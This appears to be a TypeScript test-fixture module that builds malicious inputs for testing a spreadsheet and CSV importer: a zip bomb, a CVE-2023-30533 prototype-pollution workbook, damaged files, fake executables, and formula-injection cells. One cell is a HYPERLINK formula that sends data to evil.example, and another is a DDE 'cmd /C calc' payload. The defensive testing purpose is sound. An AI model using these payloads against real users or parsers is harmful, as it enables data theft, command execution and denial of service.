/**
 * How each file of the bad-input corpus (bad-fixtures.ts) is made: SheetJS for ordinary
 * workbooks, JSZip part by part for what SheetJS refuses to write, bytes for the rest. Every
 * builder gives the same bytes on every run, so committed files can be checked against them.
 */
import { readFileSync } from 'node:fs';
import JSZip from 'jszip';
import * as XLSX from 'xlsx';
import { tempDir, writeTransactionsCsv } from './files';
import { sampleTransaction } from './transactions';

const t = (n: number) => sampleTransaction(n);

/** A one-sheet xlsx from rows of values (SheetJS writes the same bytes every time). */
export function xlsxOf(
  rows: unknown[][],
  sheetName = 'Pedidos',
  edit: (sheet: XLSX.WorkSheet) => void = () => undefined,
): Buffer {
  const sheet = XLSX.utils.aoa_to_sheet(rows);
  edit(sheet);
  const book = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(book, sheet, sheetName);
  return Buffer.from(
    XLSX.write(book, { type: 'array', bookType: 'xlsx', compression: true }) as ArrayBuffer,
  );
}

// ---------------------------------------------------------------------------------------------
// Generated at test time

/**
 * A zip bomb: an xlsx whose sheet part is 64 MB of zeros, deflated to about 64 KB (a thousandfold
 * ratio). The reader must refuse it from the zip directory, before inflating anything.
 */
export async function zipBomb(megabytes = 64): Promise<Buffer> {
  const zip = new JSZip();
  zip.file('[Content_Types].xml', '<Types/>');
  zip.file('xl/workbook.xml', '<workbook/>');
  zip.file('xl/worksheets/sheet1.xml', new Uint8Array(megabytes * 1024 * 1024));
  return zip.generateAsync({
    type: 'nodebuffer',
    compression: 'DEFLATE',
    compressionOptions: { level: 9 },
  });
}

/** `rows` valid transactions as an analyst's CSV (`writeTransactionsCsv`), as bytes. */
export function manyRowsCsv(rows: number): Buffer {
  const scratch = tempDir('dcdesk-rows-');
  try {
    writeTransactionsCsv(scratch.file('rows.csv'), rows);
    return readFileSync(scratch.file('rows.csv'));
  } finally {
    scratch.remove();
  }
}

/**
 * A CSV one column wide with `rows` short data rows: past the default limit of a full Excel sheet
 * in about 9 MB, where `manyRowsCsv` would write 130 MB of whole transactions.
 */
export function tallCsv(rows: number): Buffer {
  const lines = ['Pedido'];
  for (let n = 0; n < rows; n += 1) lines.push(String(n));
  return Buffer.from(`${lines.join('\n')}\n`, 'utf8');
}

/** Characters in the huge cell: 8 MB, far over Excel's 32,767, and under the zip ratio check. */
export const hugeCellChars = 8 * 1024 * 1024;

export function hugeCellRows(): string[][] {
  return [
    ['Pedido', 'Sessão', 'Observação'],
    [t(1).externalID, t(1).sessionID, 'x'.repeat(hugeCellChars)],
  ];
}

// ---------------------------------------------------------------------------------------------
// Committed

const date = new Date('2023-04-24T00:00:00Z');
const spreadsheetNs = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const relNs = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const packageNs = 'http://schemas.openxmlformats.org/package/2006/relationships';
const xmlHead = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

/** One sheet of a workbook written by hand: inline-string cells, and comments on its cells. */
interface HandSheet {
  name: string;
  rows: string[][];
  /** The `ref` of each comment (normally a cell, like `A1`). */
  comments?: string[];
}

const escapeXml = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

/**
 * A minimal xlsx written part by part with JSZip, for what SheetJS refuses to write (a name or a
 * reference that is not a cell, a cell over 32,767 characters). Same bytes on every run.
 */
export async function handXlsx(sheets: HandSheet[]): Promise<Buffer> {
  const zip = new JSZip();
  const add = (name: string, text: string) =>
    zip.file(name, xmlHead + text, { date, createFolders: false });
  const numbered = (index: number) => String(index + 1);
  add(
    '[Content_Types].xml',
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
      sheets
        .map(
          (_, i) =>
            `<Override PartName="/xl/worksheets/sheet${numbered(i)}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
            `<Override PartName="/xl/comments${numbered(i)}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"/>`,
        )
        .join('') +
      '</Types>',
  );
  add(
    '_rels/.rels',
    `<Relationships xmlns="${packageNs}"><Relationship Id="rId1" Type="${relNs}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  );
  add(
    'xl/workbook.xml',
    `<workbook xmlns="${spreadsheetNs}" xmlns:r="${relNs}"><sheets>` +
      sheets
        .map(
          (sheet, i) =>
            `<sheet name="${escapeXml(sheet.name)}" sheetId="${numbered(i)}" r:id="rId${numbered(i)}"/>`,
        )
        .join('') +
      '</sheets></workbook>',
  );
  add(
    'xl/_rels/workbook.xml.rels',
    `<Relationships xmlns="${packageNs}">` +
      sheets
        .map(
          (_, i) =>
            `<Relationship Id="rId${numbered(i)}" Type="${relNs}/worksheet" Target="worksheets/sheet${numbered(i)}.xml"/>`,
        )
        .join('') +
      '</Relationships>',
  );
  sheets.forEach((sheet, i) => {
    const rows = sheet.rows.map((cells, r) => {
      const xml = cells.map(
        (text, c) =>
          `<c r="${XLSX.utils.encode_cell({ r, c })}" t="inlineStr"><is><t>${escapeXml(text)}</t></is></c>`,
      );
      return `<row r="${numbered(r)}">${xml.join('')}</row>`;
    });
    add(
      `xl/worksheets/sheet${numbered(i)}.xml`,
      `<worksheet xmlns="${spreadsheetNs}"><sheetData>${rows.join('')}</sheetData></worksheet>`,
    );
    if (!sheet.comments) return;
    add(
      `xl/worksheets/_rels/sheet${numbered(i)}.xml.rels`,
      `<Relationships xmlns="${packageNs}"><Relationship Id="rId1" Type="${relNs}/comments" Target="../comments${numbered(i)}.xml"/></Relationships>`,
    );
    const comments = sheet.comments.map(
      (ref) => `<comment ref="${ref}" authorId="0"><text><t>polluted</t></text></comment>`,
    );
    add(
      `xl/comments${numbered(i)}.xml`,
      `<comments xmlns="${spreadsheetNs}"><authors><author>__proto__</author></authors>` +
        `<commentList>${comments.join('')}</commentList></comments>`,
    );
  });
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/** The row the PoC workbook holds, so a test can check that it was read. */
export const cveRow = { externalID: t(30533).externalID, sessionID: t(30533).sessionID };

/**
 * An equivalent of the CVE-2023-30533 proof of concept: SheetJS before 0.19.3 set
 * `sheet[comment.ref]` for every cell comment, so a comment whose `ref` is `__proto__` made
 * Object.prototype the "cell" and added properties to every object. This workbook carries such a
 * comment (and one on `constructor`), an author named `__proto__` and a second sheet named
 * `__proto__`, beside an ordinary data sheet.
 */
export function cvePoc(): Promise<Buffer> {
  return handXlsx([
    {
      name: 'Pedidos',
      rows: [
        ['Pedido', 'Sessão'],
        [cveRow.externalID, cveRow.sessionID],
      ],
      comments: ['__proto__', 'constructor', 'A1'],
    },
    { name: '__proto__', rows: [['polluted']] },
  ]);
}

/** A real workbook of 30 rows, cut in half as an interrupted download leaves it. */
export function truncatedXlsx(): Buffer {
  const rows: unknown[][] = [['Pedido', 'Sessão']];
  for (let n = 0; n < 30; n += 1) rows.push([t(n).externalID, t(n).sessionID]);
  const whole = xlsxOf(rows);
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/**
 * A workbook whose zip directory is whole but whose sheet's compressed data starts with four
 * garbled bytes (an invalid block type). SheetJS's own inflater loops forever on it.
 */
export function damagedXlsx(): Buffer {
  const rows: unknown[][] = [['Pedido', 'Sessão']];
  for (let n = 0; n < 30; n += 1) rows.push([t(n).externalID, t(n).sessionID]);
  const damaged = xlsxOf(rows);
  const name = damaged.indexOf('xl/worksheets/sheet1.xml');
  // The first occurrence is the part's local header: 30 bytes, the name, an extra field, data.
  if (damaged.readUInt32LE(name - 30) !== 0x04034b50) throw new Error('no local header');
  const data = name + damaged.readUInt16LE(name - 4) + damaged.readUInt16LE(name - 2);
  damaged.fill(0xff, data, data + 4);
  return damaged;
}

/** A DOS/Windows program header ("MZ", then the DOS stub), saved under a spreadsheet name. */
export function windowsProgram(): Buffer {
  const header = Buffer.alloc(128);
  header.write('MZ', 0, 'latin1');
  header.writeUInt16LE(0x90, 2);
  header.writeUInt16LE(3, 4);
  header.writeUInt16LE(4, 8);
  header.writeUInt16LE(0xffff, 12);
  header.writeUInt32LE(0x80, 0x3c);
  header.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  return Buffer.concat([header, Buffer.from('PE\0\0', 'latin1')]);
}

/** The start of a 64-bit Linux program (ELF header), saved as .csv. */
export function linuxProgram(): Buffer {
  const header = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(header);
  header.writeUInt16LE(2, 16); // executable
  header.writeUInt16LE(0x3e, 18); // x86-64
  header.writeUInt32LE(1, 20);
  return header;
}

/** Cells an attacker writes so that a spreadsheet runs them: typed text in a CSV. */
export const formulaTexts = [
  '=HYPERLINK("https://evil.example/?d="&A2,"Abrir")',
  '+55 11 98765-4321',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
] as const;

/** The formula texts as external IDs, and again in a column the import does not map. */
export function formulasCsv(): Buffer {
  const lines = ['Pedido;Sessão;Observação'];
  formulaTexts.forEach((text, index) => {
    const quoted = `"${text.replace(/"/g, '""')}"`;
    lines.push([quoted, t(index + 40).sessionID, quoted].join(';'));
  });
  return Buffer.from(lines.join('\r\n') + '\r\n', 'utf8');
}

/**
 * Real formula cells with cached values (what Excel saves), and text cells that look like
 * formulas. The reader takes the cached values and never the formulas.
 */
export const formulaCells = {
  /** `=CONCAT("order-","000041")`, cached as its result. */
  concat: { formula: 'CONCAT("order-","000041")', cached: t(41).externalID },
  /** A DDE payload, cached as the text Excel showed. */
  dde: { formula: "cmd|' /C calc'!A0", cached: '#REF!' },
  /** `=1+1`, cached 2. */
  sum: { formula: '1+1', cached: 2 },
};

export function formulasXlsx(): Buffer {
  const rows: unknown[][] = [
    ['Pedido', 'Sessão', 'Observação'],
    [null, t(41).sessionID, null],
    [formulaTexts[0], t(42).sessionID, formulaTexts[3]],
  ];
  return xlsxOf(rows, 'Pedidos', (sheet) => {
    const { concat, dde, sum } = formulaCells;
    sheet.A2 = { t: 's', v: concat.cached, f: concat.formula };
    sheet.C2 = { t: 'e', v: 0x17, w: dde.cached, f: dde.formula };
    sheet.D2 = { t: 'n', v: sum.cached, f: sum.formula };
    sheet['!ref'] = 'A1:D3';
  });
}

/**
 * Merged cells as analysts' reports have them: a title merged across the top, a header below it,
 * and a column merged down two rows. The covered cell C4 still holds a value (some writers leave
 * one), which Excel hides and the reader must drop.
 */
export const mergedRows = {
  title: 'Pedidos — novembro',
  cep: '01310-100',
  hidden: '99999-999',
};

export function mergedXlsx(): Buffer {
  const rows: unknown[][] = [
    [mergedRows.title, null, null],
    ['Pedido', 'Sessão', 'CEP'],
    [t(50).externalID, t(50).sessionID, mergedRows.cep],
    [t(51).externalID, t(51).sessionID, mergedRows.hidden],
  ];
  return xlsxOf(rows, 'Pedidos', (sheet) => {
    sheet['!merges'] = [XLSX.utils.decode_range('A1:C1'), XLSX.utils.decode_range('C3:C4')];
  });
}

/** Windows-1252 bytes of `text` (the characters 0x80–0x9F that Portuguese text uses included). */
function windows1252(text: string): Buffer {
  const special: Record<string, number> = { '€': 0x80, '–': 0x96, '“': 0x93, '”': 0x94 };
  return Buffer.from(Array.from(text, (char) => special[char] ?? char.charCodeAt(0)));
}

export const windows1252Note = 'Ação – “teste” € João';

export function windows1252Csv(): Buffer {
  return windows1252(
    ['Pedido;Sessão;Observação', `${t(60).externalID};${t(60).sessionID};${windows1252Note}`].join(
      '\r\n',
    ),
  );
}

/** Excel's "Unicode Text": UTF-16 little-endian with a byte order mark, tab-separated. */
export function utf16Text(bom: boolean): Buffer {
  const text = ['Pedido\tSessão', `${t(61).externalID}\t${t(61).sessionID}`].join('\r\n');
  return Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(text, 'utf16le')]);
}
